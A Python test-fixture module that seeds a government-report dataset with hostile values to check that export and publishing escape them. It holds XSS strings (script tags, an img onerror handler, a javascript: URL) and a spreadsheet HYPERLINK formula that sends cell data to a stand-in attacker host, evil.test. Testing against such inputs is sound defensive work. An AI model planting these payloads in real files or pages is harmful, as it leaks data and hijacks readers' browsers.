"""A small dataset whose texts want to be formulas, scripts and markup, and the package made of it."""

from __future__ import annotations

import json
from pathlib import Path

from govreports.export import Wanted, export
from govreports.publish import publish
from tests.fixtures import fixtures, record_of
from tests.test_store import TODAY, stored

SCRIPT = "<script>window.broken = 1</script>"
MARKUP = f'</script>{SCRIPT}<img src=x onerror="window.broken = 2">'
FORMULA = '=HYPERLINK("http://evil.test/?"&A1,"看")'


def records() -> list[dict]:
    """The bundled reports, and one of each kind of ill will among them."""
    found = sorted(map(record_of, fixtures("report")), key=lambda one: (one["key"], one["source"]["url"]))
    bad = next(record for record in found if record["key"] == "360922:government:2022")
    bad["title"] = f"{SCRIPT}2022年报告{{{{data}}}}"
    bad["issuer"] = {"name": MARKUP, "kind": "government"}
    bad["metrics"]["app_received"] |= {"raw": FORMULA, "evidence": f"+1\n@{MARKUP}\u2028\x00"}
    bad["issues"] += [
        {"code": "published_late", "field": "published", "detail": "40 days after the legal date"},
        {"code": "check_failed", "field": "app_received", "detail": f"T3-A: {MARKUP} 46 is not 47"},
    ]
    bad["source"] = bad["source"] | {"url": "javascript:window.broken=3"}
    town = next(record for record in found if record["key"].startswith("360922101"))
    town["title"] = "'单引号开头的标题"
    town["issuer"] = {"name": "-黄茅镇", "kind": "township"}
    return found


def account(day: str, *portals: dict) -> str:
    plain = {"name": MARKUP, "reached": True, "reason": None, "failures": {}, "region": None, "since": None}
    found = [plain | portal for portal in portals]
    return json.dumps({"started": f"{day}T05:00:00Z", "complete": True, "portals": found, "failed_pages": []})


def data_folder(folder: Path) -> Path:
    """A data folder with that dataset and two runs."""
    data = folder / "data"
    publish(data, "1", map(stored, records()), today=TODAY)
    wanzai = {"slug": "wanzai", "region": "360922", "since": 2014}
    away = {"slug": "away", "region": "360923", "since": 2024, "reached": False, "reason": "blocked"}
    (data / "runs").mkdir()
    (data / "runs" / "1.json").write_text(account("2026-01-20", wanzai, away), encoding="utf-8")
    (data / "runs" / "2.json").write_text(account("2026-05-20", wanzai, away), encoding="utf-8")
    return data


def package(folder: Path) -> Path:
    """The package of that data folder."""
    target = folder / "package"
    export(data_folder(folder), target, Wanted(), {})
    return target
